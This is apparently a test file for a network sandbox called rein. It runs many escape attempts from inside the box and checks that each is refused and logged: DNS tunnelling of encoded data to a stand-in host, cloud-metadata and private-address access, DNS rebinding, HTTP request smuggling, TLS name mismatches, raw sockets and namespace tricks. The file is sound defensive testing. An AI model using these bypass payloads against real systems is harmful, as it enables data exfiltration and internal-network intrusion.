#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Ways out that are not allowed. Each is tried from inside a box; it must bring nothing back ("GOT"), the world must
have seen nothing but what the row permits, and rein must have recorded the refusal with its reason."""
import os, socket, sys, threading

from lib import *

RULES = ["--allow-host", "site.test", "--allow-host", "*.wild.test", "--allow-host", "ssh.test:22", "--allow-host", "db.test:5432",
         "--allow-host", "ro.test,ro", "--allow-host", "rebind.test", "--allow-host", "private.test", "--allow-host", "meta.test",
         "--allow-host", "loop.test", "--allow-host", "zero.test", "--allow-host", "mapped.test", "--allow-host", "nat64.test",
         "--allow-host", "sixto4.test", "--allow-host", "ula.test", "--allow-host", "multi.test", "--allow-host", "own.test",
         "--allow-host", "second.test:7777", "--allow-host", "own6.test:7777",
         "--allow-host", "cname.test", "--allow-host", "azure.test", "--allow-host", "fixed.test", "--allow-host", "mixed.test:8080"]

PRELUDE = r'''
import ctypes, os, select, socket, ssl, struct, sys, time, urllib.request
from socket import *
def say(*a): print(*a, flush=True)
def got(d):
    if d and not d.startswith(b"\x15\x03\x01\0\x02\x02\x31"): say("GOT", d[:60])  # but for our own alert
def tcp(host, port, data=b"", wait=3, family=0, tail=None, quiet=False):
    """Connect, send, print what comes back."""
    err = None
    for f, t, p, _, a in getaddrinfo(host, port, family, SOCK_STREAM):
        try:
            s = socket(f, t, p); s.settimeout(wait); s.connect(a)
            if data: s.sendall(data)
            if tail: time.sleep(0.3); s.sendall(tail)
            out = b""
            while True:
                d = s.recv(65536)
                if not d: break
                out += d
                if b"403 Forbidden" in out: say("told", out[-200:]); return
            if not quiet: got(out)
            return
        except OSError as e: err = e
    say("error", err)
def http(host, port=80, name=None, method="GET", path="/", more="", body=b"", **k):
    tcp(host, port, f"{method} {path} HTTP/1.1\r\nHost: {name or host}\r\nConnection: close\r\n{more}\r\n".encode() + body, **k)
def tls(host, port=443, name=None, alpn=None):
    c = ssl._create_unverified_context()
    if alpn: c.set_alpn_protocols(alpn)
    try:
        with create_connection((host, port), 3) as s, c.wrap_socket(s, server_hostname=name) as t:
            t.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"); got(t.recv(100))
    except OSError as e: say("error", e)
def udp(host, port, data=b"x", family=AF_INET):
    s = socket(family, SOCK_DGRAM); s.settimeout(1)
    try: s.sendto(data, (host, port)); got(s.recv(4096))
    except OSError as e: say("error", e)
def question(name, kind=1, opcode=0):
    return struct.pack(">HHHHHH", 7, 0x100 | opcode << 11, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".") if x) + struct.pack(">BHH", 0, kind, 1)
def dns(name, kind=1, server="8.8.8.8", raw=None):
    s = socket(AF_INET, SOCK_DGRAM); s.settimeout(2); s.connect((server, 53))
    try:
        s.send(raw or question(name, kind)); d = s.recv(4096); say("rcode", d[3] & 15)
        if d[6:8] != b"\0\0": got(d)
    except OSError as e: say("error", e)
def refused(f):
    try: f(); say("GOT it")
    except OSError as e: say("error", e)
libc = ctypes.CDLL(None, use_errno=True)
'''

# name of the attempt, code, refusals of which at least one must be recorded (name, port, why), what the world may see
TLS_TO_SITE = ["tcp"]
ROWS = [
    # names
    ("a name no rule allows", "http('other.test')", [("other.test", 0, "no_rule")], []),
    ("a name below an allowed one", "http('a.site.test')", [("a.site.test", 0, "no_rule")], []),
    ("a name that ends like an allowed one", "http('notsite.test')", [("notsite.test", 0, "no_rule")], []),
    ("the domain a wildcard is for", "http('wild.test')", [("wild.test", 0, "no_rule")], []),
    ("an allowed name as a label", "http('site.test.other.test')", [("site.test.other.test", 0, "no_rule")], []),
    ("the search list of the host", "http('site')", [("site", 0, "no_rule")], []),
    ("data in a name (DNS tunnel)", "dns('c2VjcmV0LWRhdGE.other.test')", [("c2vjcmv0lwrhdge.other.test", 0, "no_rule")], []),
    ("data in a text record's name", "dns('c2VjcmV0.other.test', 16)", None, []),
    ("a tunnel to a resolver of one's own", "dns('x.other.test', server='93.184.10.2')", [("x.other.test", 0, "no_rule")], []),
    ("a tunnel over TCP", "s = create_connection(('93.184.10.2', 53), 3); q = question('t.other.test'); s.sendall(struct.pack('>H', len(q)) + q); d = s.recv(4096); say('rcode', d[5] & 15)",
     [("t.other.test", 0, "no_rule")], []),
    ("null records (iodine)", "dns('x.other.test', 10)", None, []),
    ("bytes no name has", "dns('', raw=struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b'\\x05a\\0b\\xffc\\x04test\\0\\0\\x01\\0\\x01')", [("?", 0, "dns")], []),
    ("a zone transfer", "dns('site.test', 252)", None, []),
    ("a dynamic update", "dns('', raw=question('site.test', 6, 5))", None, []),
    ("names through DNS over HTTPS", "http('93.184.10.53', 443)", [("93.184.10.53", 443, "no_name")], []),
    ("names through DNS over TLS", "tcp('93.184.10.53', 853, b'x')", [("93.184.10.53", 853, "no_name")], []),
    ("an HTTPS record with addresses in it", "dns('site.test', 65)", None, []),
    # numbers
    ("a public address by number", "http('93.184.10.2')", [("93.184.10.2", 80, "no_name")], []),
    ("an allowed host's address by number", "http('93.184.10.1', name='site.test')", [("93.184.10.1", 80, "no_name")], []),
    ("an IPv6 address by number", "http('2606:4700:1::1', name='site.test')", [("2606:4700:1::1", 80, "no_name")], []),
    ("IPv4 in IPv6 clothes", "http('::ffff:93.184.10.2')", [("93.184.10.2", 80, "no_name")], []),
    ("a private address", "http('10.9.9.9')", [("10.9.9.9", 80, "no_name")], []),
    ("the metadata address", "http('169.254.169.254')", [("169.254.169.254", 80, "no_name")], []),
    ("the metadata address as a number", "http(str(0xa9fea9fe))", [("169.254.169.254", 80, "no_name")], []),
    ("the host's own address", "http('93.184.20.1', 7777)", [("93.184.20.1", 7777, "no_name")], []),
    ("an address of the gate's that has no name", "http('100.64.77.77')", [("100.64.77.77", 80, "no_name")], []),
    ("the gate's own port", "tcp('127.0.0.1', 1, b'GET / HTTP/1.1\\r\\n\\r\\n')", [("127.0.0.1", 1, "no_name")], []),
    # names that lead to shut addresses
    ("a name that leads to a private address", "http('private.test')", [("private.test", 0, "address")], []),
    ("a name that leads to metadata", "http('meta.test')", [("meta.test", 0, "address")], []),
    ("a name that leads to a cloud's inner service", "http('azure.test')", [("azure.test", 0, "address")], []),
    ("a name that leads to loopback", "http('loop.test', 80)", [("loop.test", 0, "address")], []),
    ("a name that leads to 0.0.0.0", "http('zero.test')", [("zero.test", 0, "address")], []),
    ("a name that leads to mapped loopback", "http('mapped.test')", [("mapped.test", 0, "address")], []),
    ("a name that leads to loopback through NAT64", "http('nat64.test')", [("nat64.test", 0, "address")], []),
    ("a name that leads to loopback through 6to4", "http('sixto4.test')", [("sixto4.test", 0, "address")], []),
    ("a name that leads to a local IPv6 network", "http('ula.test')", [("ula.test", 0, "address")], []),
    ("a name that leads to multicast", "http('multi.test')", [("multi.test", 0, "address")], []),
    ("a name that leads to this machine itself", "http('own.test')", [("own.test", 80, "address")], []),
    ("a name that leads to a second address of this machine", "tcp('second.test', 7777, b'x')", [("second.test", 7777, "address")], []),
    ("a name that leads to this machine's IPv6", "tcp('own6.test', 7777, b'x')", [("own6.test", 7777, "address")], []),
    ("an alias of a private name", "http('cname.test')", [("cname.test", 0, "address")], []),
    ("a fixed private address of the host's", "http('fixed.test')", [("fixed.test", 0, "address")], []),
    ("a name that changes to loopback (rebinding)", "http('rebind.test', method='HEAD', quiet=True); time.sleep(1.3); tcp('rebind.test', 80, b'GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n')",
     [("rebind.test", 80, "address"), ("rebind.test", 0, "address")], ["tcp 93.184.10.1 80", "http 93.184.10.1 80 HEAD"]),
    ("a redirect to a private address", "try: urllib.request.urlopen('http://site.test/redirect/10.9.9.9/', timeout=3); say('GOT it')\nexcept OSError as e: say('error', e)",
     [("10.9.9.9", 80, "no_name")], ["tcp 93.184.10.1 80", "tcp 2606:4700:1::1 80", "http 93.184.10.1 80", "http 2606:4700:1::1 80"]),
    ("a redirect to metadata", "try: urllib.request.urlopen('http://site.test/redirect/169.254.169.254/latest/', timeout=3); say('GOT it')\nexcept OSError as e: say('error', e)",
     [("169.254.169.254", 80, "no_name")], ["tcp 93.184.10.1 80", "tcp 2606:4700:1::1 80", "http 93.184.10.1 80", "http 2606:4700:1::1 80"]),
    # ports
    ("another port of an allowed host", "tcp('site.test', 5432, b'x')", [("site.test", 5432, "port")], []),
    ("the web port of a host allowed for ssh", "http('ssh.test')", [("ssh.test", 80, "port")], []),
    ("mail from an allowed host", "tcp('site.test', 25)", [("site.test", 25, "port")], []),
    # TLS
    ("another name in the handshake", "tls('site.test', name='other.test')", [("site.test", 443, "sni")], TLS_TO_SITE),
    ("no name in the handshake", "tls('site.test', name=None)", [("site.test", 443, "no_sni")], TLS_TO_SITE),
    ("another name to a wildcard's host", "tls('a.wild.test', name='b.wild.test')", [("a.wild.test", 443, "sni")], TLS_TO_SITE),
    ("plain text on the TLS port", "http('site.test', 443)", [("site.test", 443, "not_tls")], TLS_TO_SITE),
    ("any bytes on the TLS port", "tcp('site.test', 443, b'SSH-2.0-x\\r\\n')", [("site.test", 443, "not_tls")], TLS_TO_SITE),
    ("half a handshake", "tcp('site.test', 443, b'\\x16\\x03\\x01\\x02\\0\\x01\\0\\x01', wait=26)", [("site.test", 443, "slow"), ("site.test", 443, "not_tls")], TLS_TO_SITE),
    ("a handshake longer than any", "tcp('site.test', 443, b'\\x16\\x03\\x01\\x40\\0\\x01\\x7f\\xff\\xff' + b'x' * 20000)", [("site.test", 443, "not_tls")], TLS_TO_SITE),
    # HTTP
    ("another host in the request", "http('site.test', name='other.test')", [("site.test", 80, "host")], ["tcp"]),
    ("metadata in the request", "http('site.test', name='169.254.169.254')", [("site.test", 80, "host")], ["tcp"]),
    ("another port in the request", "http('site.test', name='site.test:8080')", [("site.test", 80, "host")], ["tcp"]),
    ("two hosts in the request", "http('site.test', more='Host: other.test\\r\\n')", [("site.test", 80, "not_http")], ["tcp"]),
    ("another host in the target", "http('site.test', path='http://other.test/')", [("site.test", 80, "not_http")], ["tcp"]),
    ("another host in the second request", "tcp('site.test', 80, b'HEAD / HTTP/1.1\\r\\nHost: site.test\\r\\n\\r\\n', tail=b'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
     [("site.test", 80, "host")], ["tcp", "http 93.184.10.1 80 HEAD", "http 2606:4700:1::1 80 HEAD"]),
    ("a request smuggled in a body's length", "http('site.test', method='POST', more='Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n', body=b'0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
     [("site.test", 80, "not_http")], ["tcp"]),
    ("a request after a short body", "http('site.test', method='POST', more='Content-Length: 3\\r\\n', body=b'abcGET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
     [("site.test", 80, "host")], ["tcp", "http 93.184.10.1 80 POST", "http 2606:4700:1::1 80 POST"]),
    ("a folded header", "http('site.test', more='X: y\\r\\n Host: other.test\\r\\n')", [("site.test", 80, "not_http")], ["tcp"]),
    ("lines that end in LF alone", "tcp('site.test', 80, b'GET / HTTP/1.1\\nHost: site.test\\n\\n')", [("site.test", 80, "not_http")], ["tcp"]),
    ("a tunnel through an allowed proxy", "http('site.test', method='CONNECT', path='other.test:443')", [("site.test", 80, "connect")], ["tcp"]),
    ("an upgrade that the server does not make", "tcp('site.test', 80, b'GET / HTTP/1.1\\r\\nHost: site.test\\r\\nConnection: Upgrade\\r\\nUpgrade: x\\r\\n\\r\\n', tail=b'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
     [("site.test", 80, "host")], ["tcp", "http 93.184.10.1 80 GET / site.test", "http 2606:4700:1::1 80 GET / site.test"]),
    ("ssh on the web port", "tcp('site.test', 80, b'SSH-2.0-x\\r\\n')", [("site.test", 80, "not_http")], ["tcp"]),
    ("HTTP/2 without a handshake", "tcp('site.test', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')", [("site.test", 80, "not_http")], ["tcp"]),
    ("a head without an end (slow headers)", "s = create_connection(('site.test', 80), 40); s.sendall(b'GET / HTTP/1.1\\r\\nHost: site.test\\r\\n')\nfor i in range(60):\n  time.sleep(0.5)\n  try: s.sendall(b'X-%d: y\\r\\n' % i)\n  except OSError as e: say('error', e); break\nelse: say('GOT time')",
     [("site.test", 80, "slow")], ["tcp"]),
    ("writing where only reading is allowed", "http('ro.test', method='POST', more='Content-Length: 2\\r\\n', body=b'hi')", [("ro.test", 80, "method")], ["tcp"]),
    ("deleting where only reading is allowed", "http('ro.test', method='DELETE')", [("ro.test", 80, "method")], ["tcp"]),
    ("a body to a reading request", "http('ro.test', more='Content-Length: 2\\r\\n', body=b'hi')", [("ro.test", 80, "method")], ["tcp"]),
    ("an upgrade where only reading is allowed", "http('ro.test', more='Upgrade: x\\r\\n')", [("ro.test", 80, "method")], ["tcp"]),
    ("an upgrade with a body", "http('site.test', method='POST', more='Upgrade: x\\r\\nContent-Length: 2\\r\\n', body=b'hi')", [("site.test", 80, "not_http")], ["tcp"]),
    ("an upgrade behind another request", "tcp('site.test', 80, b'HEAD / HTTP/1.1\\r\\nHost: site.test\\r\\n\\r\\n', tail=b'GET / HTTP/1.1\\r\\nHost: site.test\\r\\nUpgrade: x\\r\\n\\r\\n')",
     [("site.test", 80, "not_http")], ["tcp", "http 93.184.10.1 80 HEAD", "http 2606:4700:1::1 80 HEAD"]),
    ("TLS where only reading is allowed", "tls('ro.test', name='ro.test')", [("ro.test", 443, "opaque")], ["tcp"]),
    # other protocols
    ("UDP to an address", "udp('93.184.10.1', 9999)", [("93.184.10.1", 9999, "protocol")], []),
    ("UDP to an allowed name (QUIC)", "udp(gethostbyname('site.test'), 443)", [("site.test", 443, "protocol")], []),
    ("UDP over IPv6", "udp('2606:4700:1::1', 9999, family=AF_INET6)", [("2606:4700:1::1", 9999, "protocol")], []),
    ("the time (NTP)", "udp('93.184.10.4', 123)", [("93.184.10.4", 123, "protocol")], []),
    ("multicast", "udp('224.0.0.251', 5353)", [("224.0.0.251", 5353, "protocol")], []),
    ("broadcast", "s = socket(AF_INET, SOCK_DGRAM); s.setsockopt(SOL_SOCKET, SO_BROADCAST, 1); refused(lambda: s.sendto(b'x', ('255.255.255.255', 9999)))", [("255.255.255.255", 9999, "protocol")], []),
    ("UDP-Lite", "refused(lambda: socket(AF_INET, SOCK_DGRAM, 136).sendto(b'x', ('93.184.10.1', 9999)))", "any", []),
    ("ping", "refused(lambda: socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP))", [("icmp", 0, "socket")], []),
    ("ping of IPv6", "refused(lambda: socket(AF_INET6, SOCK_DGRAM, 58))", [("icmp", 0, "socket")], []),
    ("a raw socket", "refused(lambda: socket(AF_INET, SOCK_RAW, IPPROTO_TCP))", [("raw", 0, "socket")], []),
    ("a raw IPv6 socket", "refused(lambda: socket(AF_INET6, SOCK_RAW, 17))", [("raw", 0, "socket")], []),
    ("frames", "refused(lambda: socket(AF_PACKET, SOCK_RAW, 3))", [("packet", 0, "socket")], []),
    ("the hypervisor (vsock)", "refused(lambda: socket(AF_VSOCK, SOCK_STREAM))", [("vsock", 0, "socket")], []),
    ("vsock over io_uring", "r = libc.syscall(425, 8, ctypes.create_string_buffer(256)); say('GOT ring' if r >= 0 else 'error')", None, []),
    ("the crypto family", "refused(lambda: socket(38, SOCK_SEQPACKET))", None, []),
    ("SCTP", "refused(lambda: socket(AF_INET, SOCK_STREAM, 132).connect(('93.184.10.1', 80)))", None, []),
    ("bluetooth", "refused(lambda: socket(31, SOCK_RAW, 0))", [("family 31", 0, "socket")], []),
    ("MPTCP", "setdefaulttimeout(3); refused(lambda: socket(AF_INET, SOCK_STREAM, 262).connect(('93.184.10.2', 80)))", [("93.184.10.2", 80, "no_name")], []),
    ("data in the first packet (fast open)", "s = socket(); s.settimeout(3); refused(lambda: s.sendto(b'GET /', 0x20000000, ('93.184.10.2', 80)))", [("93.184.10.2", 80, "no_name")], []),
    # the box's own network
    ("rules by netlink", "refused(lambda: socket(AF_NETLINK, SOCK_RAW, 12))", [("netlink", 0, "socket")], []),
    ("routes by netlink", "s = socket(AF_NETLINK, SOCK_RAW, 0); s.bind((0, 0)); s.send(struct.pack('IHHII', 32, 16, 5, 1, 0) + struct.pack('BBHiII', 0, 0, 1, 1, 0, 1)); d = s.recv(4096); e = struct.unpack('i', d[16:20])[0]; say('GOT change' if e == 0 else ('error', e))", None, []),
    ("the interface by ioctl", "import fcntl; refused(lambda: fcntl.ioctl(socket(), 0x8914, b'lo' + bytes(14) + struct.pack('H', 0) + bytes(22)))", None, []),
    ("a new network namespace", "r = libc.unshare(0x40000000 | 0x10000000); say('GOT ns' if r == 0 else 'error')", None, []),
    ("the network of another process", "try: fd = os.open('/proc/1/ns/net', os.O_RDONLY)\nexcept OSError as e: say('error', e)\nelse: say('GOT ns' if libc.setns(fd, 0x40000000) == 0 else 'error')", None, []),
    ("a mark of one's own", "s = socket(); refused(lambda: s.setsockopt(SOL_SOCKET, 36, struct.pack('I', 0x7265696e)))", None, []),
    ("the device of another", "s = socket(); s.settimeout(3)\ntry: s.setsockopt(SOL_SOCKET, 25, b'w0\\0'); s.connect(('93.184.10.2', 80)); got(s.recv(1))\nexcept OSError as e: say('error', e)", None, []),
    ("a foreign source address", "s = socket(); refused(lambda: s.bind(('93.184.20.1', 0)))", None, []),
    ("source routing", "s = socket(); s.settimeout(3)\ntry:\n  s.setsockopt(0, 4, b'\\x83\\x07\\x04' + inet_aton('93.184.10.2') + b'\\0'); s.connect(('93.184.10.2', 80)); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); got(s.recv(10))\nexcept OSError as e: say('error', e)", None, []),
    # beside the network
    ("the host's loopback", "tcp('127.0.0.1', 7777, b'x')", None, []),
    ("the host's loopback by its name", "tcp('host.rein.internal', 7777, b'x')", [("host.rein.internal", 0, "no_rule")], []),
    ("an abstract socket of the host's", "refused(lambda: socket(AF_UNIX).connect('\\0rein-net-test'))", None, []),
    ("a socket in a directory of the host's", "refused(lambda: socket(AF_UNIX).connect(os.environ['HOME'] + '/out.sock'))", None, []),
    ("a socket in /run", "refused(lambda: socket(AF_UNIX).connect('/run/rein-net-test.sock'))", None, []),
    ("the name service cache", "refused(lambda: socket(AF_UNIX).connect('/var/run/nscd/socket'))", None, []),
    ("a descriptor that was left open", "for fd in range(3, 64):\n  try: s = socket(fileno=fd); s.settimeout(2); s.connect(('127.0.0.1', 7777)); got(s.recv(9))\n  except OSError: pass", None, []),
    ("proxies of the environment", "os.environ.update(http_proxy='http://other.test:80', https_proxy='http://93.184.10.2:80')\ntry: urllib.request.urlopen('http://other.test/', timeout=3); say('GOT it')\nexcept OSError as e: say('error', e)", [("other.test", 0, "no_rule")], []),
]

# With gVisor the command's kernel is not the host's. Sockets of other kinds are refused in there: nobody outside is asked, so nothing
# is recorded. Some calls succeed and mean nothing, as its own namespaces and rings: there the attempt goes on, and must lead nowhere.
TRY_ON = "\nudp('93.184.10.1', 9999); tcp('127.0.0.1', 7777); http('93.184.10.2')"
EMULATED = {
    "vsock over io_uring": "libc.syscall(425, 8, ctypes.create_string_buffer(256)); refused(lambda: socket(AF_VSOCK, SOCK_STREAM))",
    "a new network namespace": "libc.unshare(0x40000000 | 0x10000000)\ntry:" + TRY_ON.replace("\n", " ") + "\nexcept OSError as e: say('error', e)",
    "a mark of one's own": "s = socket(); s.settimeout(3)\ntry: s.setsockopt(SOL_SOCKET, 36, struct.pack('I', 1)); s.connect(('93.184.10.2', 80)); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); got(s.recv(10))\nexcept OSError as e: say('error', e)",
}
if KIND == "runsc":
    ROWS = [(name, EMULATED.get(name, code), None if why == "any" or name == "MPTCP" or why and why[0][2] == "socket" else why, may)
            for name, code, why, may in ROWS]


def serve(s):
    while True:
        try:
            c, _ = s.accept()
        except OSError:
            return
        try:
            c.sendall(b"GOT the host"); c.close()
        except OSError:
            pass


# what must not be reached on this machine
keep = []
for family, address in ((socket.AF_INET, ("0.0.0.0", 7777)), (socket.AF_UNIX, "\0rein-net-test"), (socket.AF_UNIX, T + "/home/out.sock"),
                        (socket.AF_UNIX, "/run/rein-net-test.sock")):
    if address == "/run/rein-net-test.sock":
        os.system("mount -t tmpfs none /run")
    s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(address); s.listen(); keep.append(s)
    if family == socket.AF_UNIX and address[0] == "/":
        os.chmod(address, 0o777)
    threading.Thread(target=serve, args=(s,), daemon=True).start()
left = socket.socket()  # unconnected, of this machine's network: an inherited one could dial from it
os.set_inheritable(left.fileno(), True)

only = sys.argv[1:] or (os.environ.get("NET_ONLY", "").split(",") if os.environ.get("NET_ONLY") else None)
long_ones = {"half a handshake", "a head without an end (slow headers)"}
results = {}


def attempt(i):
    name, code, why, may = ROWS[i]
    results[i] = box(RULES, ["/usr/bin/python3", "-c", PRELUDE + code], timeout=90, pass_fds=(left.fileno(),))


def allowed(line, may):
    return line.startswith("dns ") and line.split()[1] in NAMES or any(line.startswith(m) for m in may)


# names the gate may ask for: those of a rule, of any type
NAMES = {r.split(",")[0].split(":")[0] for r in RULES if r != "--allow-host"} | {"a.wild.test", "b.wild.test"}
# the slow ones run beside each other; they see each other's traffic in the log, so they come last
order = [i for i in range(len(ROWS)) if ROWS[i][0] not in long_ones] + [i for i in range(len(ROWS)) if ROWS[i][0] in long_ones]
slow = []
for i in order:
    if only and not any(o in ROWS[i][0] for o in only):
        continue
    if ROWS[i][0] in long_ones:
        t = threading.Thread(target=attempt, args=(i,)); t.start(); slow.append(t)
    else:
        attempt(i)
for t in slow:
    t.join()
for i, r in results.items():
    name, code, why, may = ROWS[i]
    good = "GOT" not in r.out and r.json and "Traceback" not in r.err or (
        "GOT" not in r.out and r.json and "gaierror" in r.err)
    good = good and all(allowed(x, may) for x in r.seen)
    if why == "any":
        good = good and r.net["refused"] > 0
    elif why is not None:
        good = good and any(w in r.why for w in why) and r.net["refused"] > 0
    check(good, name, r)
finish()
